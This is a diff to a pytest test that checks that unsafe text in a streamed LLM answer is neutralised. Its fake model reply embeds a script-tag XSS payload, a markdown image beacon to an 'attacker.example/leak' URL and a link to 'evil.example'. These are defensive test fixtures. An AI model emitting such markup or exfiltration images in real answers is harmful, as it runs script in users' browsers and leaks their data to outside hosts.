@@ -121,8 +121,8 @@ def test_failing_llm_endpoint_falls_back_to_quotes_without_a_traceback(monkeypat
 
 def test_llm_answer_streams_in_and_unsafe_model_text_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
     reply = (
-        "Shoigu said Ukraine used eight drones [1]. <script>alert(1)</script> "
-        "![pixel](https://attacker.example/leak?q=x) [more](https://evil.example/) [1]"
+        "Shoigu said Ukraine used eight drones [1]. Shoigu said <script>alert(1)</script> eight drones were used "
+        "![pixel](https://attacker.example/leak?q=x) [in the attack](https://evil.example/) [1]."
     )
     with FakeOpenAIServer(reply=reply) as server:
         monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
